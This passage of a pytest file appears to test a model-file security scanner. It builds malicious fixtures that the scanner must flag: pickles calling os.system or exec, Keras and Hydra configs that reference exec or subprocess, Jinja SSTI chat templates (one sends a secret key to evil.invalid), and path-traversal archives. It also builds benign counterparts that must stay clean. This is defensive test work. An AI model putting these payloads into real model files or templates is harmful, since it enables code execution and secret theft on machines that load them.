def test_zip_member_escapes_the_folder(member: str, tmp_path: Path) -> None:
    # modelaudit tests/scanners/test_zip_scanner.py test_directory_traversal_detection and
    # test_windows_traversal_detection
    data = _zip((member, b"x"), ("safe.txt", b"ok"))
    _expect(tmp_path, "escape.zip", data, "suspicious", "archive-path-traversal")


def test_protocol0_pickle_in_a_txt_member(tmp_path: Path) -> None:
    # modelaudit test_zip_scanner.py test_scan_zip_with_proto0_pickle_disguised_as_text
    data = _zip(("payload.txt", b'cos\nsystem\n(S"echo pwned"\ntR.'))
    _expect(tmp_path, "txt.zip", data, "malicious", "pickle-dangerous-call")


def test_legacy_torch_tar_layout(tmp_path: Path) -> None:
    # fickling test/test_archive_scanning.py test_legacy_pytorch_tar_with_malicious_pickle and
    # test_polyglot.py create_pytorch_legacy_tar (PyTorch v0.1.1: pickle, storages/, tensors/)
    payload = PROTO2 + _call(g0("builtins", "exec"), u("import os")) + STOP
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        info = tarfile.TarInfo("pickle")
        info.size = len(payload)
        tf.addfile(info, io.BytesIO(payload))
        for folder in ("storages", "tensors"):
            info = tarfile.TarInfo(folder)
            info.type = tarfile.DIRTYPE
            tf.addfile(info)
    _expect(tmp_path, "legacy.pth", buf.getvalue(), "malicious", "pickle-dangerous-call")


def test_nullifai_broken_pickle_in_a_7z_torch_layout(tmp_path: Path) -> None:
    # ReversingLabs nullifAI (glockr1/ballr7): a 7z-compressed PyTorch layout whose data.pkl
    # runs its payload first and then breaks, so loaders execute it before failing
    import py7zr

    good = pickle.dumps({"weights": [1.0]}, protocol=2)[:-1]
    payload = _call(g0("os", "system"), u(CMD)) + POP
    broken = good[:2] + payload + good[2:] + b"\xff\xfe junk"
    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w") as archive:
        archive.writestr(broken, "archive/data.pkl")
        archive.writestr(b"3\n", "archive/version")
    _expect(tmp_path, "ballr7.pt", buf.getvalue(), "malicious", "pickle-dangerous-call")


def test_gzip_compressed_pickle_named_joblib(tmp_path: Path) -> None:
    # modelaudit tests/scanners/test_joblib_scanner_codecs.py
    # test_scan_detects_gzip_compressed_pickle_joblib
    data = gzip.compress(os_system_proto(4))
    _expect(tmp_path, "gzip_protocol4.joblib", data, "malicious", "pickle-dangerous-call")


def _mar(manifest: dict[str, object], **members: bytes) -> bytes:
    """A TorchServe model archive: MAR-INF/MANIFEST.json and the members."""
    manifest_json = json.dumps({"model": manifest}).encode()
    return _zip(("MAR-INF/MANIFEST.json", manifest_json), *members.items())


_HANDLER = b"def handle(data, context):\n    return data\n"


def test_torchserve_mar_serialized_pickle(tmp_path: Path) -> None:
    # modelaudit tests/scanners/test_torchserve_mar_scanner.py
    # test_scan_detects_malicious_pickle_payload_in_serialized_file
    manifest: dict[str, object] = {"handler": "handler.py", "serializedFile": "model.pkl"}
    data = _mar(manifest, **{"handler.py": _HANDLER, "model.pkl": os_system_proto(4)})
    _expect(tmp_path, "model.mar", data, "malicious", "pickle-dangerous-call")


def test_torchserve_mar_traversal_member(tmp_path: Path) -> None:
    # modelaudit test_torchserve_mar_scanner.py test_scan_detects_path_traversal_member_names
    manifest: dict[str, object] = {"handler": "handler.py", "serializedFile": "weights.bin"}
    members = {"handler.py": _HANDLER, "weights.bin": b"w", "../../evil.pkl": os_system_proto(4)}
    rules = ("archive-path-traversal", "pickle-dangerous-call")
    _expect(tmp_path, "model.mar", _mar(manifest, **members), "malicious", *rules)


# -- Keras, HDF5 and TensorFlow ---------------------------------------------------------------
def _h5(config: dict[str, object]) -> bytes:
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        f.attrs["model_config"] = json.dumps(config)
    return buf.getvalue()


def _dense_with_initializer(initializer: dict[str, object]) -> dict[str, object]:
    config = {"name": "dense", "units": 8, "kernel_initializer": initializer}
    layer = {"class_name": "Dense", "config": config}
    return {"class_name": "Sequential", "config": {"name": "sequential", "layers": [layer]}}


def test_h5_model_config_nested_initializer_builtins_exec(tmp_path: Path) -> None:
    # modelscan tests/test_h5_nested_config.py _nested_malicious_config
    exec_ref: dict[str, object] = {
        "module": "builtins",
        "class_name": "exec",
        "config": {"code": "print('pwned')"},
        "registered_name": "exec",
    }
    data = _h5(_dense_with_initializer(exec_ref))
    _expect(tmp_path, "malicious.h5", data, "malicious", "keras-unsafe-module")


def test_h5_lambda_function_as_python_source(tmp_path: Path) -> None:
    # modelaudit generate_security_assets.py make_security_keras_models (malicious_lambda.h5)
    source = "lambda x: eval('print(\"security test\")')"
    layer: dict[str, object] = {"class_name": "Lambda", "config": {"function": source}}
    config: dict[str, object] = {
        "class_name": "Sequential",
        "config": {"name": "m", "layers": [layer]},
    }
    _expect(tmp_path, "malicious_lambda.h5", _h5(config), "malicious", "keras-lambda-layer")


_NESTED_FUNCTIONAL: dict[str, object] = {
    # modelscan tests/test_keras_nested_lambda_scan.py: a Lambda inside a nested Functional
    "class_name": "Functional",
    "config": {"layers": [{"class_name": "Functional", "config": {"layers": [
        {"class_name": "InputLayer", "config": {"name": "nested_input"}},
        {"class_name": "Lambda", "config": {"name": "nested_lambda"}}]}}]},
}  # fmt: skip


def test_keras_lambda_in_nested_functional(tmp_path: Path) -> None:
    data = keras_archive(_NESTED_FUNCTIONAL)
    _expect(tmp_path, "nested.keras", data, "malicious", "keras-lambda-layer")


def test_keras_zip_with_only_config_json(tmp_path: Path) -> None:
    # modelscan test_keras_nested_lambda_scan.py: the archive holds config.json and nothing else
    data = _zip(("config.json", json.dumps(_NESTED_FUNCTIONAL).encode()))
    _expect(tmp_path, "nested.keras", data, "malicious", "keras-lambda-layer")


def test_keras_config_only_zip_nested_builtins_exec(tmp_path: Path) -> None:
    # modelscan tests/test_keras_nested_config.py MALICIOUS_NESTED_CONFIG
    exec_ref: dict[str, object] = {
        "module": "builtins",
        "class_name": "exec",
        "config": {},
        "registered_name": None,
    }
    dense = {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {"units": 1, "kernel_initializer": exec_ref},
        "registered_name": None,
    }
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": [dense]},
        "registered_name": None,
    }
    data = _zip(("config.json", json.dumps(config).encode()))
    _expect(tmp_path, "exec.keras", data, "malicious", "keras-unsafe-module")


def test_keras_layer_from_subprocess_popen(tmp_path: Path) -> None:
    # modelscan tests/test_keras_nested_config.py MALICIOUS_TOP_LEVEL_MODULE
    layer: dict[str, object] = {
        "module": "subprocess",
        "class_name": "Popen",
        "config": {"name": "exploit"},
        "registered_name": None,
    }
    data = keras_archive(keras_sequential([layer]))
    _expect(tmp_path, "popen.keras", data, "malicious", "keras-unsafe-module")


@pytest.mark.parametrize("op", ["WholeFileReader", "WholeFileReaderV2"])
def test_savedmodel_whole_file_reader(op: str, tmp_path: Path) -> None:
    # modelscan tests/test_savedmodel_dangerous_ops.py test_whole_file_reader_is_blocked
    graph = tf_graph([tf_node("reader", op), tf_node("read", "ReaderReadV2", ("reader", "q"))])
    data = saved_model(graph)
    _expect(tmp_path, "saved_model.pb", data, "malicious", "savedmodel-file-read-op")


# -- chat templates ---------------------------------------------------------------------------
# promptfoo/modelaudit tests/assets/generators/generate_jinja2_test_assets.py (malicious and
# obfuscated sets), each as a tokenizer_config.json chat_template
TEMPLATES: dict[str, str] = {
    "builtins_subscript_eval": "{{ __builtins__['eval']('__import__(\"os\").system(\"id\")') }}",
    "str_mro_subclasses_index": "{{ ''.__class__.__mro__[1].__subclasses__()[40]('/etc/passwd') }}",
    "hex_escaped_subscript_keys": (
        "{{ request['application']['\\x5f\\x5fglobals\\x5f\\x5f']"
        "['\\x5f\\x5fbuiltins\\x5f\\x5f']['eval']('1') }}"
    ),
    "chr_joined_key": (
        "{{ ().__class__.__bases__[0].__subclasses__()[59].__init__.__globals__"
        "[''.join([chr(95), chr(95), chr(98), chr(117), chr(105), chr(108), chr(116)])] }}"
    ),
    "getattr_function_chain": (
        "{{ getattr(getattr(getattr('', '__class__'), '__mro__')[1], '__subclasses__')() }}"
    ),
    "base64_via_builtins_import": (
        "{{ __builtins__.__import__('base64').b64decode('X19pbXBvcnRfXw==').decode() }}"
    ),
    "format_wrapping_cycler_globals": (
        "{{ '{}'.format(cycler.__init__.__globals__.os.system('id')) }}"
    ),
    "set_globals_then_use": (
        "{% set x = cycler.__init__.__globals__ %}{{ x.os.system('echo ' ~ x.os.environ) }}"
    ),
    "joiner_urlopen_exfiltration": (
        "{{ joiner.__init__.__globals__.__builtins__.__import__('urllib.request')"
        ".urlopen('http://evil.invalid/?d=' + config.SECRET_KEY) }}"
    ),
}


@pytest.mark.parametrize("template", list(TEMPLATES.values()), ids=list(TEMPLATES))
def test_chat_template_ssti(template: str, tmp_path: Path) -> None:
    data = json.dumps({"tokenizer_class": "LlamaTokenizer", "chat_template": template}).encode()
    _expect(tmp_path, "tokenizer_config.json", data, "malicious", "template-ssti")


def test_chat_template_chr_only_key(tmp_path: Path) -> None:
    # modelaudit obfuscated "char_construction": the key is built from chr() codes
    template = "{{ x[''.join([chr(95), chr(95), chr(99), chr(108), chr(97), chr(115)])] }}"
    data = json.dumps({"chat_template": template}).encode()
    _expect(tmp_path, "tokenizer_config.json", data, "malicious", "template-dynamic-attribute")


def test_template_under_a_second_key(tmp_path: Path) -> None:
    # modelaudit edge case multiple_templates.json: a benign chat_template beside a malicious
    # custom_chat_template
    config = {
        "chat_template": "{{ messages[0]['content'] }}",
        "custom_chat_template": "{{ self.__init__.__globals__['os'].system('x') }}",
    }
    data = json.dumps(config).encode()
    _expect(tmp_path, "tokenizer_config.json", data, "malicious", "template-ssti")


def test_template_in_a_yaml_config(tmp_path: Path) -> None:
    # modelaudit generate_yaml_configs malicious_config.yaml
    text = (
        "model_name: evil-model\n"
        "chat_template: \"{{ config.__class__.__init__.__globals__['os'].system('x') }}\"\n"
    )
    _expect(tmp_path, "model_config.yaml", text.encode(), "malicious", "template-ssti")


def test_standalone_jinja_file(tmp_path: Path) -> None:
    # modelaudit generate_standalone_templates malicious_standalone.jinja
    text = (
        "{% for message in messages %}\n{{ message.role }}: {{ message.content }}\n"
        "{% endfor %}\n{# payload #}\n{{ cycler.__init__.__globals__.os.system('whoami') }}\n"
    )
    _expect(tmp_path, "chat.jinja", text.encode(), "malicious", "template-ssti")


# -- benign peer fixtures: must stay clean ----------------------------------------------------
def _np_bytes(save: Callable[..., None], **arrays: object) -> bytes:
    buf = io.BytesIO()
    save(buf, **arrays)
    return buf.getvalue()


def _object_array() -> bytes:
    x = np.empty((2, 2), dtype=object)
    x[:] = [(1, 2), (3, 4)]
    buf = io.BytesIO()
    np.save(buf, x, allow_pickle=True)
    return buf.getvalue()


def _int_array() -> bytes:
    buf = io.BytesIO()
    np.save(buf, np.array([[1, 2], [3, 4]]))
    return buf.getvalue()


def _h5_glorot() -> bytes:
    # modelscan tests/test_h5_nested_config.py _benign_config
    glorot: dict[str, object] = {
        "module": "keras.initializers",
        "class_name": "GlorotUniform",
        "config": {"seed": None},
        "registered_name": None,
    }
    return _h5(_dense_with_initializer(glorot))


def _h5_minimal() -> bytes:
    # modelaudit generate_security_assets.py safe_model.h5
    dense = {"class_name": "Dense", "config": {"units": 10}}
    return _h5({"class_name": "Sequential", "config": {"name": "safe_model", "layers": [dense]}})


def _sevenz(*members: tuple[str, bytes]) -> bytes:
    import py7zr

    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w") as archive:
        for name, data in members:
            archive.writestr(data, name)
    return buf.getvalue()


def _safetensors() -> bytes:
    from safetensors.numpy import save

    # modelaudit generate_safetensors_assets.py safe_model.safetensors
    tensors = {
        "embeddings": np.arange(8, dtype=np.float32).reshape(2, 4),
        "bias": np.zeros(4, dtype=np.float32),
    }
    meta = {
        "model_name": "transformer-small",
        "author": "Safe ML Team",
        "version": "1.2.3",
        "license": "MIT",
    }
    return save(tensors, metadata=meta)


def _textual_inversion_embedding() -> bytes:
    # fickling test/test_crashes.py test_stable_diffusion (issue #22): a textual-inversion
    # embedding with a ParameterDict, written by torch.save
    import torch

    param = torch.nn.ParameterDict({"*": torch.nn.Parameter(torch.zeros(1, 4))})
    buf = io.BytesIO()
    torch.save(
        {
            "string_to_token": {"*": torch.tensor(265)},
            "string_to_param": param,
            "name": "x",
            "step": 0,
        },
        buf,
    )
    return buf.getvalue()


def _legacy_state_dict() -> bytes:
    # picklescan tests/data/pytorch_model.bin: a legacy (non-zip) torch.save state_dict
    import torch

    buf = io.BytesIO()
    torch.save(torch.nn.Linear(2, 2).state_dict(), buf, _use_new_zipfile_serialization=False)
    return buf.getvalue()


def _nemo(config_yaml: str) -> bytes:
    """A NeMo checkpoint: a tar holding model_config.yaml."""
    config = config_yaml.encode()
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        info = tarfile.TarInfo("model_config.yaml")
        info.size = len(config)
        tf.addfile(info, io.BytesIO(config))
    return buf.getvalue()


def _template_config(template: str) -> bytes:
    return json.dumps({"tokenizer_class": "LlamaTokenizer", "chat_template": template}).encode()


BENIGN: list[tuple[str, str, Callable[[], bytes]]] = [
    # picklescan benign0_v0/v3/v4.pkl
    *((f"list_of_strings_protocol_{p}", "benign.pkl",
       lambda p=p: pickle.dumps(["a", "b", "c"], protocol=p)) for p in (0, 3, 4)),
    # picklescan tests/test_scanner.py mock "pickle/benign" and "zip/benign"
    ("dict_of_ints", "benign.pkl", lambda: pickle.dumps({"a": 0, "b": 1, "c": 2})),
    ("zip_with_dict_pickle", "benign.zip",
     lambda: _zip(("data.pkl", pickle.dumps({"a": 0, "b": 1, "c": 2})))),
    # fickling test_expansion_attack_analysis.py test_legitimate_data_not_flagged
    ("list_of_100_ints", "range.pkl", lambda: pickle.dumps(list(range(100)))),
    # picklescan tests/data2: object_array.npy, int_array.npy, (object|int)_arrays(_compressed).npz
    ("npy_object_array_of_tuples", "object_array.npy", _object_array),
    ("npy_int_array", "int_array.npy", _int_array),
    ("npz_object_arrays", "object_arrays.npz",
     lambda: _np_bytes(np.savez, a=np.array([0, 1, 2], dtype=object),
                       b=np.array([3, 4, 5], dtype=object))),
    ("npz_object_arrays_compressed", "object_arrays_compressed.npz",
     lambda: _np_bytes(np.savez_compressed, a=np.array([0, 1, 2], dtype=object),
                       b=np.array([3, 4, 5], dtype=object))),
    ("npz_int_arrays", "int_arrays.npz",
     lambda: _np_bytes(np.savez, a=np.array([0, 1, 2]), b=np.array([3, 4, 5]))),
    ("npz_int_arrays_compressed", "int_arrays_compressed.npz",
     lambda: _np_bytes(np.savez_compressed, a=np.array([0, 1, 2]), b=np.array([3, 4, 5]))),
    # fickling test_polyglot.py: np.save of a dict (a pickled npy)
    ("npy_pickled_dict", "pickle.npy",
     lambda: _np_bytes(np.save, arr=np.array({"test": [1, 2, 3]}, dtype=object))),
    # picklescan bad_pytorch.pt (a PNG named .pt) and not_a_pickle.bin (GLOBAL, invalid UTF-8)
    ("png_named_pt", "bad_pytorch.pt", lambda: b"\x89PNG\r\n\x1a\n"),
    ("global_opcode_with_invalid_utf8", "not_a_pickle.bin", lambda: b"cmod\n\xf8\n"),
    # picklescan pytorch_model.bin; fickling test_crashes.py stable diffusion embedding
    ("legacy_torch_state_dict", "pytorch_model.bin", _legacy_state_dict),
    ("textual_inversion_embedding", "embedding.pt", _textual_inversion_embedding),
    # modelaudit generate_security_assets.py safe_model.pt (data.pkl at the zip root)
    ("torch_zip_without_root_folder", "safe_model.pt",
     lambda: _zip(("version", b"3"),
                  ("data.pkl", pickle.dumps({"weights": {"layer1": [1.0, 2.0, 3.0]}})))),
    # modelaudit generate_security_assets.py safe_model.zip; test_zip_scanner.py
    ("zip_text_members", "safe_model.zip",
     lambda: _zip(("model/weights.txt", b"safe model weights"), ("README.txt", b"safe"))),
    ("zip_text_and_json", "simple.zip",
     lambda: _zip(("readme.txt", b"This is a readme file"), ("data.json", b'{"key": "v"}'))),
    ("zip_two_plain_pickles", "two.zip",
     lambda: _zip(("one.pkl", pickle.dumps({"a": 1})), ("two.pkl", pickle.dumps({"b": 2})))),
    # modelaudit generate_7z_test_assets.py safe.7z, mixed_content.7z, empty.7z
    ("sevenz_safe_pickle", "safe.7z",
     lambda: _sevenz(("safe_model.pkl", pickle.dumps({"model_weights": [1.0, 2.0],
                                                      "model_config": {"layers": 3}})))),
    ("sevenz_mixed_content", "mixed_content.7z",
     lambda: _sevenz(("model.pkl", pickle.dumps({"safe": True})), ("readme.txt", b"text"),
                     ("config.json", b'{"model_type": "test"}'))),
    ("sevenz_empty", "empty.7z", _sevenz),
    # modelaudit test_torchserve_mar_scanner.py test_scan_benign_mar_with_safe_handler and
    # test_false_positive_reduction_comments_and_strings_only
    ("torchserve_mar_safe_handler", "model.mar", lambda: _mar(
        {"handler": "handler.py", "serializedFile": "weights.bin", "extraFiles": "labels.json"},
        **{"handler.py": b"def handle(data, context):\n    return {'ok': True}\n",
           "weights.bin": b"weights", "labels.json": b'{"0": "cat"}'})),
    ("torchserve_mar_handler_mentions_calls_in_comments", "comments_only.mar", lambda: _mar(
        {"handler": "handler.py", "serializedFile": "weights.bin"},
        **{"handler.py": b'def handle(data, context):\n    # os.system("no")\n'
                         b'    marker = "subprocess.Popen in a string"\n    return marker\n',
           "weights.bin": b"weights"})),
    # modelaudit tests/scanners/test_nemo_scanner.py test_safe_nemo_target_passes
    ("nemo_safe_hydra_targets", "model.nemo", lambda: _nemo(
        "model:\n  _target_: nemo.collections.nlp.models.TextClassification\n"
        "optim:\n  _target_: torch.optim.Adam\n")),
    # modelscan test_h5_nested_config.py benign; modelaudit safe_model.h5
    ("h5_dense_glorot_initializer", "benign.h5", _h5_glorot),
    ("h5_minimal_sequential", "safe_model.h5", _h5_minimal),
    # modelaudit generate_safetensors_assets.py safe_model.safetensors
    ("safetensors_with_metadata", "safe_model.safetensors", _safetensors),
    # modelaudit generate_jinja2_test_assets.py benign and edge-case templates
    ("template_llama_inst", "tokenizer_config.json", lambda: _template_config(
        "{% for message in messages %}{% if message['role'] == 'user' %}"
        "{{ bos_token + '[INST] ' + message['content'] + ' [/INST]' }}"
        "{% elif message['role'] == 'system' %}"
        "{{ '<<SYS>>\\n' + message['content'] + '\\n<</SYS>>\\n\\n' }}"
        "{% elif message['role'] == 'assistant' %}{{ ' ' + message['content'] + ' ' + eos_token }}"
        "{% endif %}{% endfor %}")),
    ("template_role_title_method", "tokenizer_config.json", lambda: _template_config(
        "{% for message in messages %}{{ message['role'].title() }}: {{ message['content'] }}\n"
        "{% endfor %}")),
    ("template_conditional_system", "tokenizer_config.json", lambda: _template_config(
        "{% if messages[0]['role'] == 'system' %}{{ messages[0]['content'] }}\n{% endif %}"
        "{% for message in messages[1:] %}{% if message['role'] == 'user' %}User: "
        "{{ message['content'] }}{% elif message['role'] == 'assistant' %}Assistant: "
        "{{ message['content'] }}{% endif %}{% if not loop.last %}\n{% endif %}{% endfor %}")),
    ("template_chatml", "tokenizer_config.json", lambda: _template_config(
        "{% for message in messages %}<|im_start|>{{ message['role'] }}\n"
        "{{ message['content'] }}<|im_end|>\n{% endfor %}"
        "{% if add_generation_prompt %}<|im_start|>assistant\n{% endif %}")),
    ("template_empty", "tokenizer_config.json", lambda: _template_config("")),
    ("template_unclosed_bracket", "tokenizer_config.json",
     lambda: _template_config("{{ unclosed_bracket")),
    ("template_oversized", "tokenizer_config.json", lambda: _template_config(
        "{% for message in messages %}" + "A" * 60000 + "{{ message['content'] }}{% endfor %}")),
    ("tokenizer_config_without_template", "tokenizer_config.json",
     lambda: json.dumps({"tokenizer_class": "BertTokenizer", "model_max_length": 512}).encode()),
    ("yaml_config_benign_template", "model_config.yaml",
     lambda: b"model_name: test-model\nchat_template: \"{% for message in messages %}"
             b"{{ message['role'] }}{% endfor %}\"\n"),
    ("standalone_benign_j2", "benign_chat.j2",
     lambda: b"{% for message in messages %}\n  {% if message.role == \"system\" %}\n"
             b"System: {{ message.content }}\n  {% endif %}\n{% endfor %}\n"),
    ("template_message_class_field", "suspicious_benign.template",
     lambda: b"{% for message in messages %}\n  {% if message.class == \"important\" %}\n"
             b"IMPORTANT: {{ message.content }}\n  {% else %}\n{{ message.content }}\n"
             b"  {% endif %}\n{% endfor %}\n"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "build"), [pytest.param(n, b, id=i) for i, n, b in BENIGN])
def test_benign_peer_fixture_is_clean(
    name: str, build: Callable[[], bytes], tmp_path: Path
) -> None:
    _clean(tmp_path, name, build())


# -- misses and false alarms: fixed ones pin the rule that catches them, the rest are xfail --
@pytest.mark.parametrize("protocol", [0, 4])
def test_pickle_loads_of_a_constant_benign_payload(protocol: int, tmp_path: Path) -> None:
    # picklescan malicious13a.pkl (protocol 0, cPickle/_codecs) and malicious13b.pkl (_pickle)
    inner = b"I12345\n."
    if protocol == 0:
        encoded = _call(g0("_codecs", "encode"), b"VI12345\\u000a.\n", b"Vlatin1\n")
        data = _call(g0("pickle", "loads"), encoded) + b"."
    else:
        data = PROTO4 + _call(sg("_pickle", "loads"), by(inner)) + STOP
    # a nested loader has no place in model data, even when its payload is clean
    _expect(tmp_path, "loads.pkl", data, "suspicious", "pickle-nested-loader")


def _sevenz_with_member_name(data: bytes, real: str) -> bytes:
    """A 7z whose member is called ``real`` (py7zr refuses to write ``../`` names)."""
    import py7zr

    placeholder = "a" * len(real)
    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w") as archive:
        archive.set_encoded_header_mode(False)  # names stay visible to patch
        archive.writestr(data, placeholder)
    out = bytearray(buf.getvalue())
    at = out.find(placeholder.encode("utf-16-le"))
    out[at : at + 2 * len(real)] = real.encode("utf-16-le")
    offset, size = struct.unpack_from("<QQ", out, 12)
    struct.pack_into("<I", out, 28, zlib.crc32(bytes(out[32 + offset : 32 + offset + size])))
    struct.pack_into("<I", out, 8, zlib.crc32(bytes(out[12:32])))
    return bytes(out)


def test_sevenz_member_with_traversal_name(tmp_path: Path) -> None:
    # modelaudit generate_7z_test_assets.py generate_path_traversal_7z, with a payload inside
    data = _sevenz_with_member_name(os_system_proto(4), "../../../dangerous_file.pkl")
    # py7zr refuses to extract the name; the built-in 7z reader hands the member on
    _expect(
        tmp_path, "path_traversal.7z", data, "malicious", "archive-path-traversal",
        "pickle-dangerous-call",
    )  # fmt: skip


@pytest.mark.parametrize("target", ["../evil.txt", "/etc/passwd"], ids=["dotdot", "etc_passwd"])
def test_zip_symlink_member_escapes(target: str, tmp_path: Path) -> None:
    # modelaudit tests/scanners/test_zip_scanner.py test_symlink_outside_extraction_root and
    # test_symlink_to_critical_path
    info = zipfile.ZipInfo("link.txt")
    info.create_system = 3
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    _expect(
        tmp_path, "link.zip", _zip((info, target.encode())), "suspicious", "archive-path-traversal"
    )


def test_pickle_under_ten_nested_zips(tmp_path: Path) -> None:
    # modelaudit tests/scanners/test_zip_scanner.py test_max_depth_limit, with a payload.
    # Past max_nesting_depth (5) the pickle at the bottom is not scanned (the limit stays):
    # archive-limit says the content cannot be vouched for. The verdict is error, which
    # ranks above suspicious (test_dispatch pins error for a nesting past the limit)
    data = _zip(("deep.pkl", os_system_proto(2)))
    for level in range(10):
        data = _zip((f"level{level}.zip", data))
    _expect(tmp_path, "deep.zip", data, "error", "archive-limit", "artifact-scan-error")


@pytest.mark.parametrize(
    "blob",
    [b"\x7fELF\x02\x01\x01" + b"\0" * 64, b"MZ" + b"\0" * 58 + b"This program cannot be run"],
    ids=["elf", "pe"],
)
def test_executable_appended_to_a_pickle(blob: bytes, tmp_path: Path) -> None:
    # modelaudit tests/scanners/test_pickle_scanner.py
    # test_scan_bin_file_with_executable_signatures
    data = pickle.dumps({"weights": [1.0, 2.0, 3.0]}) + b"some_padding" + blob
    _expect(tmp_path, "pytorch_model.bin", data, "suspicious", "pickle-trailing-executable")


@pytest.mark.parametrize("via", ["dup", "memo"])
def test_billion_laughs_expansion(via: str, tmp_path: Path) -> None:
    # fickling test/test_expansion_attack_analysis.py (coldwaterq/pickle_injector globalLaughs.pt
    # and billionLaughsAlt.pkl): 10 levels of 10 references each
    body = b""
    for level in range(10):
        refs = b"2" * 9 if via == "dup" else b"q" + bytes([level]) + (b"h" + bytes([level])) * 9
        body += refs + b"l"
    data = PROTO4 + MARK * 10 + u("lol") + body + STOP
    _expect(tmp_path, "laughs.pkl", data, "suspicious", "pickle-expansion")


def test_minimal_savedmodel_with_pyfunc(tmp_path: Path) -> None:
    # modelaudit generate_security_assets.py MALICIOUS_SAVEDMODEL_B64: meta_graphs[0].graph_def
    # holds Const and a PyFunc node, and nothing else
    from _formats_samples import pb_bytes

    nodes = pb_bytes(1, tf_node("Const", "Const")) + pb_bytes(1, tf_node("bad", "PyFunc"))
    data = pb_bytes(2, pb_bytes(2, nodes))
    _expect(tmp_path, "saved_model.pb", data, "malicious", "savedmodel-python-op")


def test_safetensors_metadata_with_python_code(tmp_path: Path) -> None:
    # modelaudit generate_safetensors_assets.py malicious_import.safetensors
    from safetensors.numpy import save

    meta = {"model_info": "import os; os.system('echo pwned')", "description": "looks legit"}
    data = save({"bias": np.zeros(4, dtype=np.float32)}, metadata=meta)
    _flagged(tmp_path, "malicious_import.safetensors", data)


@pytest.mark.parametrize(
    "handler",
    [
        # modelaudit test_torchserve_mar_scanner.py
        # test_bypass_prevention_comments_do_not_suppress_real_call_detection
        b'def handle(data, context):\n    # os.system("decoy")\n    """eval(\'decoy\')"""\n'
        b'    import subprocess as sp\n    return sp.run(["echo", "real-call"])\n',
        b"import os\nos.system('id')\n\ndef handle(data, context):\n    return data\n",
    ],
    ids=["aliased_subprocess_run_behind_decoys", "module_level_os_system"],
)
def test_torchserve_handler_runs_commands(handler: bytes, tmp_path: Path) -> None:
    manifest: dict[str, object] = {"handler": "handler.py", "serializedFile": "weights.bin"}
    data = _mar(manifest, **{"handler.py": handler, "weights.bin": b"w"})
    _expect(tmp_path, "model.mar", data, "malicious", "torchscript-dangerous-code")


@pytest.mark.parametrize(
    "config",
    [
        "model:\n  _target_: os.system\n  command: echo pwned\n",
        "trainer:\n  callbacks:\n  - _target_: subprocess.Popen\n    args: [whoami]\n",
        "_target_: builtins.eval\nexpression: __import__('os').system('id')\n",
        "model:\n  encoder:\n    layers:\n    - attention:\n        _target_: os.popen\n",
    ],
    ids=["os_system", "popen_in_callbacks", "builtins_eval", "nested_os_popen"],
)
def test_nemo_hydra_target_callable(config: str, tmp_path: Path) -> None:
    # modelaudit tests/scanners/test_nemo_scanner.py TestCVE202523304HydraTarget
    _expect(tmp_path, "model.nemo", _nemo(config), "malicious", "config-hydra-target-dangerous")


def test_payload_in_a_second_gzip_member(tmp_path: Path) -> None:
    # modelaudit test_joblib_scanner_codecs.py (trailer after a compressed joblib stream),
    # with a second gzip member instead of raw bytes
    data = gzip.compress(pickle.dumps({"safe": [1, 2, 3]})) + gzip.compress(os_system_proto(4))
    _expect(tmp_path, "model.joblib", data, "malicious", "pickle-dangerous-call")


class _ZipCrypto:
    """The traditional PKWARE stream cipher (APPNOTE 6.1), to write an encrypted member."""

    def __init__(self, password: bytes) -> None:
        self.keys = [0x12345678, 0x23456789, 0x34567890]
        for byte in password:
            self._update(byte)

    @staticmethod
    def _crc(crc: int, byte: int) -> int:
        return zlib.crc32(bytes([byte]), crc ^ 0xFFFFFFFF) ^ 0xFFFFFFFF

    def _update(self, byte: int) -> None:
        k0 = self._crc(self.keys[0], byte)
        k1 = ((self.keys[1] + (k0 & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        self.keys = [k0, k1, self._crc(self.keys[2], k1 >> 24)]

    def encrypt(self, plain: bytes) -> bytes:
        out = bytearray()
        for byte in plain:
            t = (self.keys[2] | 2) & 0xFFFF
            out.append(byte ^ ((t * (t ^ 1)) >> 8) & 0xFF)
            self._update(byte)
        return bytes(out)


def _encrypted_zip(name: str, plain: bytes, password: bytes) -> bytes:
    """One stored member, encrypted (flag bit 0), as ``zip -P`` writes it."""
    crc = zlib.crc32(plain)
    body = _ZipCrypto(password).encrypt(bytes(11) + bytes([crc >> 24]) + plain)
    raw = name.encode()
    # version, flags=1 (encrypted), method=0 (stored), time, date, crc, sizes, name length
    common = struct.pack("<HHHHIII", 1, 0, 0, 0, crc, len(body), len(plain))
    local = b"PK\x03\x04" + struct.pack("<H", 20) + common + struct.pack("<HH", len(raw), 0)
    central = (
        b"PK\x01\x02"
        + struct.pack("<HH", 20, 20)
        + common
        + struct.pack("<HHHHHII", len(raw), 0, 0, 0, 0, 0, 0)  # lengths, disk, attrs, offset 0
    )
    local += raw + body
    central += raw
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(central), len(local), 0)
    return local + central + end


def test_zipcrypto_builder_round_trips() -> None:
    data = _encrypted_zip("secret.txt", b"benign text\n", b"test123")
    assert zipfile.ZipFile(io.BytesIO(data)).read("secret.txt", pwd=b"test123") == b"benign text\n"


def test_password_protected_benign_zip(tmp_path: Path) -> None:
    # picklescan tests/data/benign_password_protected.zip, modelscan tests/data/
    # password_protected.zip: peers call it clean. Suspicious on purpose: content that
    # cannot be read cannot be vouched for (torch ignores the flag and reads the member)
    data = _encrypted_zip("secret.txt", b"benign text\n", b"test123")
    _expect(tmp_path, "benign_password_protected.zip", data, "suspicious", "zip-encrypted-flag")


def test_legacy_torch_save_of_a_full_module(tmp_path: Path) -> None:
    # fickling test/test_polyglot.py: torch.save(model, _use_new_zipfile_serialization=False)
    # ("PyTorch v0.1.10", stacked pickles)
    import torch

    buf = io.BytesIO()
    torch.save(torch.nn.Linear(2, 2), buf, _use_new_zipfile_serialization=False)
    # the class is a persistent id ('module', cls, file, source) that the NEWOBJ calls:
